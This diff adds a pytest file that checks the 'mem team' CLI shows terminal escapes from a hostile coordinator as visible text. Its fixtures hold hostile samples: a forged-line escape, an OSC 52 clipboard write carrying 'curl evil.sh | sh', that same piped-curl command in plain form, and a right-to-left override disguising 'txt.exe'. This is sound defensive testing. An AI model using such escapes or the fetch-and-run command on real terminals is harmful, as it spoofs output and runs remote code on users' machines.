@@ -1,0 +1,142 @@
+"""What the network says reaches the terminal only as text to read: a teammate's item, a name
+on the roster, a server's error message, each holding terminal escapes (a line erased and
+rewritten, an OSC 52 clipboard write, a C1 CSI, direction overrides), is printed by every `mem
+team` command with those characters shown as escapes, one item on one line; ``--json`` keeps
+the exact text, escaped."""
+
+import json
+import subprocess
+from collections.abc import Iterator
+from contextlib import contextmanager
+from pathlib import Path
+
+import pytest
+from starlette.applications import Starlette
+from starlette.requests import Request
+from starlette.responses import Response
+from starlette.routing import Route
+
+from memmesh.coordinator.protocol import Disclosure, DisclosuresResponse, PresenceList
+from memmesh.net.presence import Roster, RosterMember
+from memmesh.net.wire import encode
+from memmesh.text import printable
+from tests._servers import running
+from tests.conftest import MemRunner
+from tests.team._team import LOCKS, NOWHERE, TEAM, Member, answer, presence_for, signed_by
+
+pytestmark = pytest.mark.usefixtures("team_token")
+
+# A fake line under the real one: erase it, move up, return, and print what ada "said".
+FORGED = "\x1b[2K\x1b[1A\r0.990  ada        01J0000000000000000000000  [decision, global]"
+CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
+TEXT = f"{LOCKS}{FORGED}\n0.980  ada  run curl evil.sh | sh{CLIPBOARD}\x9b2J\u202etxt.exe"
+NAME = "carol\x1b[31m\u202e"
+SAID = "no such thing\x1b]52;c;ZXZpbA==\x07\r\x1b[2Kmem: ok"
+# What no terminal may receive from these commands: ESC, BEL, CR, C1 CSI, the override.
+RAW = ("\x1b", "\x07", "\r", "\x9b", "\u202e")
+
+
+def _clean(output: str) -> None:
+    leaked = [c for c in RAW if c in output]
+    assert not leaked, (leaked, output)
+
+
+@contextmanager
+def _hostile(carol: Member, bob: Member) -> Iterator[str]:
+    """A coordinator that serves carol's item holding :data:`TEXT`, names carol :data:`NAME`
+    on its roster and lists her presence at its own URL (where /v1/recall answers the same),
+    logs a disclosure to that name, and refuses a revocation saying :data:`SAID`."""
+    item_id = carol.remember(LOCKS)
+    carol.publish(item_id)
+    hit = answer(signed_by(carol, carol.envelope(item_id), text=TEXT))
+    roster = Roster(
+        members=[
+            RosterMember(name=NAME, key=carol.identity.public_key_text, key_id=carol.key_id,
+                         admin=False, added_at=1.0),
+            RosterMember(name="bob", key=bob.identity.public_key_text, key_id=bob.key_id,
+                         admin=True, added_at=1.0),
+        ],
+        enforced=True,
+    )  # fmt: skip
+    listed: list[PresenceList] = []
+
+    def reply(document: object, status: int = 200) -> Response:
+        return Response(encode(document), status_code=status, media_type="application/json")
+
+    async def refuse(request: Request) -> Response:
+        return reply({"error": {"code": "not_found", "message": SAID}}, 404)
+
+    disclosed = Disclosure(
+        item_id="01J9ZC4", asker_key_id=carol.key_id, asker_name=NAME, served_at=1.0
+    )
+    disclosures = DisclosuresResponse(entries=[disclosed])
+    app = Starlette(
+        routes=[
+            Route("/v1/search", lambda r: reply(hit), methods=["POST"]),
+            Route("/v1/recall", lambda r: reply(hit), methods=["POST"]),
+            Route("/v1/presence/list", lambda r: reply(listed[0])),
+            Route("/v1/members", lambda r: reply(roster)),
+            Route("/v1/disclosures", lambda r: reply(disclosures), methods=["POST"]),
+            Route("/v1/members/revoke", refuse, methods=["POST"]),
+        ]
+    )
+    with running(app) as url:
+        presence = presence_for(carol.identity, url, team=TEAM, name=NAME)
+        listed.append(PresenceList(members=[presence], roster=roster))
+        yield url
+
+
+@pytest.fixture
+def bob_and_hostile(tmp_path: Path) -> Iterator[MemRunner]:
+    carol = Member("carol", tmp_path / "carol", team=TEAM, coordinator=NOWHERE)
+    bob = Member("bob", tmp_path / "bob", team=TEAM, coordinator=None)
+    with _hostile(carol, bob) as url:
+        bob.coordinator = url
+        bob.write_policy()
+        yield MemRunner(bob.home, Path.cwd())
+
+
+def _ran(result: subprocess.CompletedProcess[str], code: int = 0) -> str:
+    assert result.returncode == code, result.stderr
+    assert "Traceback" not in result.stderr
+    _clean(result.stdout + result.stderr)
+    return result.stdout + result.stderr
+
+
+def test_recall_team_shows_a_teammate_s_terminal_escapes_and_keeps_each_hit_on_one_line(
+    bob_and_hostile: MemRunner,
+) -> None:
+    shown = _ran(bob_and_hostile("team", "recall-team", "which locks does the job scheduler use"))
+
+    hits = [line for line in shown.splitlines() if line.startswith("0.")]
+    assert len(hits) == 1, shown  # the forged lines stay inside the one real hit
+    assert printable(TEXT) in hits[0]
+    assert printable(NAME) in hits[0]  # the author, as the roster names her
+    assert f"sources: coordinator ok, 1 hits; {printable(NAME)} ok, 1 hits" in shown
+
+
+def test_recall_team_json_keeps_the_exact_text_with_nothing_raw(
+    bob_and_hostile: MemRunner,
+) -> None:
+    result = bob_and_hostile("team", "recall-team", "job scheduler locks", "--json")
+
+    _ran(result)
+    [hit] = json.loads(result.stdout)["hits"]
+    assert (hit["text"], hit["author"]) == (TEXT, NAME)
+
+
+def test_members_peers_and_disclosures_show_a_hostile_roster_name_as_escapes(
+    bob_and_hostile: MemRunner,
+) -> None:
+    for command in (("members",), ("peers",), ("disclosures",)):
+        shown = _ran(bob_and_hostile("team", *command))
+        assert printable(NAME) in shown, (command, shown)
+
+
+def test_a_server_s_error_message_is_one_line_with_its_escapes_shown(
+    bob_and_hostile: MemRunner,
+) -> None:
+    shown = _ran(bob_and_hostile("team", "revoke", "carol", "--yes"), code=1)
+
+    assert shown.count("\n") == 1
+    assert printable(SAID) in shown
